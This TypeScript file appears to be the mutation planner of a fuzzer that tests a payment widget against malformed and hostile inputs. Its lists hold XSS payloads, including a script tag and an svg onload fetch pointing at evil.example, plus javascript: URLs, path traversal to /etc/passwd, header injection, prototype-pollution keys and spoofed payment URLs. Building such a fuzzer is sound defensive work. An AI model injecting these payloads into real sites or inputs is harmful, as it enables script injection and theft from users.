import type { Random } from '../../faults/random.ts';
import { THIEF } from './thief.ts';

/** One change of a valid input, as plain data, so that a finding can be printed and replayed. */
export interface Mutation {
  path: readonly (string | number)[];
  kind: string;
  value?: unknown;
}

/** Placeholders for values that JSON cannot express, such as a getter that throws. They are for entry points that take objects of the host page. */
interface Trap {
  $trap: 'getter' | 'proxy' | 'cycle' | 'function' | 'symbol' | 'date' | 'map' | 'bigint' | 'revoked';
}

/** Secrets of the user; a secret in a message to the host, a log or monitoring is a finding. */
export const SECRETS = {
  card: '5555555555554444',
  code: '8431',
  token: 'canary-7d1f0c2b9a4e4f6d8b3a5c7e9f1b2d4c',
  account: '032180000118359719',
  mail: 'canary.payer@example.com',
} as const;

const NUMBERS = [
  0,
  -0,
  -1,
  1,
  0.1,
  1e-9,
  1e21,
  2 ** 31,
  2 ** 32,
  2 ** 53,
  -(2 ** 53),
  8.64e15,
  8.64e15 + 1,
  -8.64e15,
  1e308,
] as const;
const NOT_FINITE = [Number.NaN, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY] as const;
const TEXTS = [
  '',
  ' ',
  '0',
  '-0',
  '00',
  '1e3',
  '0x10',
  '1,000.00',
  '1.000,00',
  '１２',
  '٣٢',
  'NaN',
  'Infinity',
  'null',
  'true',
  '999999999999999999999999',
  '0.000000000000000000001',
  '-5',
  '+5',
  '5.',
  '.5',
  '\u0000',
  '\ud800',
  '\u212a',
  '{{name}}',
  '{{constructor}}',
  '%s%n',
  '../../../etc/passwd',
  '//evil.example',
  '\r\nSet-Cookie: a=b',
] as const;
const MARKUP = [
  '<img src=x onerror=alert(1)>',
  '"><script src=https://evil.example/x.js></script>',
  '&lt;b&gt;',
  '<!--',
  ']]>',
  '<svg onload=fetch("https://evil.example")>',
  'url(https://evil.example/x.png)',
  '; background: url(//evil.example/x)',
] as const;
const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  'toLocaleString',
  'then',
  'toJSON',
  'length',
  'constructor.constructor',
  '__proto__.polluted',
  'isPrototypeOf',
  '__defineGetter__',
] as const;
const SIGNS = [
  '\u202e',
  '\u2066',
  '\u200b',
  '\u200d',
  '\ufeff',
  '\u00ad',
  '\u0301'.repeat(40),
  '\u{1f468}\u200d\u{1f469}',
  '\u061c',
] as const;
/** Characters that `planTexts` puts into texts, because they are invisible or reorder the amount beside them. */
const HOSTILE_SIGNS = [
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
  '\u202c',
  '\u202d',
  '\u2069\u202e',
  '\u200c',
  '\u2060',
  '\u2063',
  '\ufff9',
  '\u3164',
  '\u{e0041}',
] as const;
const FLOODS = ['\u0336'.repeat(200), '\u0489\u0301'.repeat(30), '\u20dd'.repeat(12)] as const;
const PLACEHOLDER = /\{\{\w+\}\}/g;

/** Plans hostile texts: with characters of `HOSTILE_SIGNS` or `FLOODS`, or with the attacker's name instead of a placeholder. */
export function planTexts(valid: unknown, random: Random): Mutation[] {
  const places = listPlaces(valid).filter(({ value }) => typeof value === 'string');
  const withPlaceholders = places.filter(({ value }) => new RegExp(PLACEHOLDER).test(String(value)));
  return Array.from({ length: random.pick([1, 2, 6]) }, () => {
    const isEmptied = withPlaceholders.length > 0 && random.chance(0.2);
    const { path, value } = random.pick(isEmptied ? withPlaceholders : places);
    const text = String(value);
    if (isEmptied) return { path, kind: 'no placeholder', value: text.replace(PLACEHOLDER, THIEF.name) };
    const at = random.between(0, text.length);
    return {
      path,
      kind: 'hostile signs',
      value: text.slice(0, at) + random.pick(random.chance(0.5) ? FLOODS : HOSTILE_SIGNS) + text.slice(at),
    };
  });
}

const ORIGIN_ATTRIBUTES = ['host', 'assets', 'frame'] as const;

export function planMarkup(random: Random): Mutation[] {
  return Array.from({ length: random.pick([1, 1, 2, 3]) }, () => ({
    path: [random.pick(ORIGIN_ATTRIBUTES)],
    kind: 'address',
    value: random.pick([...URLS, THIEF.page, new URL(THIEF.page).origin]),
  }));
}

const URLS = [
  'javascript:alert(1)',
  ' javascript:alert(1)',
  'java\nscript:alert(1)',
  'JAVASCRIPT:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  'vbscript:x',
  'about:blank',
  'intent://pay#Intent;end',
  'ftp://evil.example/',
  'https://evil.example/',
  'http://evil.example/',
  '//evil.example/',
  '\\\\evil.example\\',
  'https://user:pass@evil.example/',
  'https://cashier.test@evil.example/',
  'https://cashier.test.evil.example/',
  'https://xn--80ak6aa92e.com/',
  'https://[::1]/',
  'https://127.0.0.1:1/',
  'wss://evil.example/',
  'ws://evil.example/',
  'upi://pay?pa=thief@evil&am=99999',
  'upi://mandate?pa=thief@evil',
  'bitcoin:1BoatSLRHtKNngkdXEeobR76b53LETtpyT',
  'ethereum:0x0@1/transfer?address=0x1',
  'https://',
  'https://%',
  'https:evil.example',
] as const;
const CURRENCIES = [
  'XXX',
  'usd',
  '€',
  'BTC',
  'JPY',
  'KWD',
  'USD',
  'CLF',
  'USDT',
  'MXNMXN',
  '__proto__',
  'M\u0425N',
  '',
] as const;
const PATTERNS = [
  '(a+)+$',
  '^(([a-z])+.)+[A-Z]([a-z])+$',
  '[',
  '(?=',
  '\\',
  '(?<a>.)\\k<a>',
  '^(?:.*.*)*$',
  '.{99999}',
  '\\p{Nope}',
] as const;
const MASKS = ['0'.repeat(300), '{{[', '[0000', '\\', '0-'.repeat(80), 'a*a*a*', '`0', '[]{}'] as const;

/** Spellings of a card number, because redaction has to find the number in a text in any of them. */
const spellCard = (random: Random): string => {
  const groups = SECRETS.card.match(/.{4}/g) ?? [];
  const between = random.pick([' ', '', '-', '_', '.', '  ', ' - ', '\u00a0', '•', '\u200b', '/']);
  const plain = groups.join(between);
  if (random.chance(0.2)) return plain.replace(/\d/g, (digit) => String.fromCharCode(0x660 + Number(digit)));
  return plain;
};

const secretText = (random: Random): string => {
  const secret = random.pick([
    spellCard(random),
    SECRETS.token,
    SECRETS.account,
    SECRETS.mail,
    `cvv=${SECRETS.code}`,
  ]);
  return random.pick([secret, `Card ${secret} declined`, `{"error":"${secret}"}`, `code ${secret}.`]);
};

const nest = (depth: number, asArray: boolean): unknown => {
  let value: unknown = 'deep';
  for (let at = 0; at < depth; at += 1) value = asArray ? [value] : { a: value };
  return value;
};

type Node = { path: readonly (string | number)[]; value: unknown };

/**
 * The parts of a value that a mutation can change, with their paths, the whole value first. Long lists and maps give only their first
 * entries, because the others are alike.
 */
function listPlaces(value: unknown, path: Node['path'] = [], found: Node[] = []): Node[] {
  found.push({ path, value });
  if (typeof value === 'object' && value !== null && path.length < 8)
    for (const [key, part] of Object.entries(value).slice(0, 60))
      listPlaces(part, [...path, Array.isArray(value) ? Number(key) : key], found);
  return found;
}

const MAX_LIST_CHARS = 1_000_000;

type Maker = (random: Random, current: unknown) => unknown;

const REPLACE: Record<string, Maker> = {
  type: (random, current) =>
    random.pick([
      null,
      true,
      false,
      0,
      1,
      '',
      'text',
      [],
      {},
      [current],
      { value: current },
      [[]],
      [null],
      String(current),
    ]),
  number: (random) => random.pick([...NUMBERS, ...NUMBERS.map(String)]),
  infinite: (random) => random.pick(NOT_FINITE),
  text: (random) => random.pick(TEXTS),
  markup: (random) => random.pick(MARKUP),
  name: (random) => random.pick(NAMES),
  signs: (random, current) => {
    const text = typeof current === 'string' ? current : 'text';
    const at = random.between(0, text.length);
    return text.slice(0, at) + random.pick(SIGNS) + text.slice(at);
  },
  url: (random) => random.pick(URLS),
  currency: (random) => random.pick(CURRENCIES),
  pattern: (random) => random.pick([...PATTERNS, ...MASKS]),
  secret: (random) => secretText(random),
  'long text': (random) =>
    random
      .pick(['a', ' ', '9', '\u202e', 'é', '.', 'a '] as const)
      .repeat(random.pick([300, 5_000, 100_000, 400_000])),
  'long list': (random, current) => {
    const item = Array.isArray(current) ? current[0] : current;
    // A socket accepts no frame above the contract's limit, so a longer list would never reach the widget.
    const most = Math.floor(MAX_LIST_CHARS / (JSON.stringify(item)?.length || 1));
    // Each entry is a copy, because one shared object would carry a later mutation into all of them, and the list would exceed that limit.
    const length = Math.min(most, random.pick([200, 5_000, 20_000]));
    return Array.from({ length }, () => structuredClone(item));
  },
  'wide map': (random) =>
    Object.fromEntries(Array.from({ length: random.pick([500, 10_000]) }, (_, at) => [`key${at}`, at])),
  deep: (random) => nest(random.pick([40, 1_000, 4_000]), random.chance(0.5)),
  bits: (random, current) => {
    if (typeof current !== 'string' || current === '') return random.pick(TEXTS);
    const at = random.between(0, current.length - 1);
    const other = String.fromCharCode(current.charCodeAt(at) ^ (1 << random.between(0, 6)));
    return current.slice(0, at) + other + current.slice(at + 1);
  },
  cut: (random, current) =>
    typeof current === 'string' ? current.slice(0, random.between(0, current.length)) : null,
};

const TRAPS: Trap['$trap'][] = [
  'getter',
  'proxy',
  'cycle',
  'function',
  'symbol',
  'date',
  'map',
  'bigint',
  'revoked',
];

/** @param hasTraps true for an entry point that takes objects of the host page */
export function planMutations(valid: unknown, random: Random, count: number, hasTraps = false): Mutation[] {
  const places = listPlaces(valid);
  return Array.from({ length: count }, () => {
    // The whole value is chosen rarely, because a decoder rejects a changed whole at once, and the run would test nothing further.
    const place = random.chance(0.03) ? places[0] : random.pick(places);
    const { path, value } = place ?? { path: [], value: valid };
    if (hasTraps && random.chance(0.15)) return { path, kind: 'trap', value: { $trap: random.pick(TRAPS) } };
    if (random.chance(0.12) && path.length > 0) return { path, kind: 'missing' };
    if (typeof value === 'object' && value !== null && random.chance(0.4))
      return planBranch(value, path, random);
    const kind = random.pick(Object.keys(REPLACE));
    return { path, kind, value: REPLACE[kind]?.(random, value) };
  });
}

function planBranch(value: object, path: Node['path'], random: Random): Mutation {
  const kind = random.pick(Object.keys(REPLACE));
  const extra = REPLACE[kind]?.(random, 'x');
  if (Array.isArray(value)) {
    const item = value.length > 0 && random.chance(0.5) ? value[0] : extra;
    return { path: [...path, value.length], kind: 'extra item', value: item };
  }
  const [firstKey] = Object.keys(value);
  if (firstKey !== undefined && random.chance(0.3))
    return { path: [...path, `${firstKey}#2`], kind: 'same twice', value: Reflect.get(value, firstKey) };
  return { path: [...path, random.pick(NAMES)], kind: `extra key: ${kind}`, value: extra };
}

export function applyMutations<T>(valid: T, mutations: readonly Mutation[]): unknown {
  let root: unknown = structuredClone(valid);
  for (const { path, kind, value } of mutations) {
    const last = path.at(-1);
    if (last === undefined) {
      root = value;
      continue;
    }
    let parent: unknown = root;
    for (const key of path.slice(0, -1)) parent = own(parent, key);
    if (typeof parent !== 'object' || parent === null) continue;
    // No input can have an array with such a length: JSON knows none, and JavaScript throws when it is set.
    if (Array.isArray(parent) && last === 'length') continue;
    if (kind === 'missing') Reflect.deleteProperty(parent, last);
    // Assigning `__proto__` would change the prototype; JSON.parse creates an own property of that name, and so does `defineProperty`.
    else Object.defineProperty(parent, last, { value, writable: true, enumerable: true, configurable: true });
  }
  return root;
}

const own = (value: unknown, key: string | number): unknown =>
  typeof value === 'object' && value !== null && Object.hasOwn(value, key)
    ? Reflect.get(value, key)
    : undefined;

/** The objects that `makeTrap` has made. `setTraps` leaves them alone, because the host may send one message twice. */
const made = new WeakSet<object>();

function isClosed(value: object): boolean {
  try {
    Object.keys(value);
    return made.has(value);
  } catch {
    return true;
  }
}

export function setTraps(value: unknown, depth = 0): unknown {
  if (typeof value !== 'object' || value === null || depth > 10 || isClosed(value)) return value;
  if ('$trap' in value) {
    const trap = makeTrap(value as Trap);
    if (typeof trap === 'object' && trap !== null) made.add(trap);
    return trap;
  }
  for (const key of Object.keys(value).slice(0, 200)) {
    // Reads the descriptor, because an earlier message of the run may have put a getter here, and reading the value would throw.
    const part: unknown = Object.getOwnPropertyDescriptor(value, key)?.value;
    if (typeof part !== 'object' || part === null || isClosed(part)) continue;
    const isGetter = '$trap' in part && (part as Trap).$trap === 'getter';
    if (isGetter)
      Object.defineProperty(value, key, {
        enumerable: true,
        configurable: true,
        get() {
          throw new Error('trap: a getter');
        },
      });
    else
      Object.defineProperty(value, key, {
        value: setTraps(part, depth + 1),
        writable: true,
        enumerable: true,
        configurable: true,
      });
  }
  return value;
}

function makeTrap({ $trap }: Trap): unknown {
  const refuse = () => {
    throw new Error('trap: a proxy');
  };
  switch ($trap) {
    case 'proxy':
    case 'getter':
      return new Proxy(
        {},
        {
          get: refuse,
          has: refuse,
          ownKeys: refuse,
          getOwnPropertyDescriptor: refuse,
          getPrototypeOf: refuse,
        },
      );
    case 'revoked': {
      const { proxy, revoke } = Proxy.revocable({}, {});
      revoke();
      return proxy;
    }
    case 'cycle': {
      const cycle: Record<string, unknown> = {};
      cycle.self = cycle;
      return cycle;
    }
    case 'function':
      return () => refuse();
    case 'symbol':
      return Symbol('trap');
    case 'date':
      return new Date(Number.NaN);
    case 'map':
      return new Map([['a', 1]]);
    case 'bigint':
      return 10n ** 40n;
  }
}
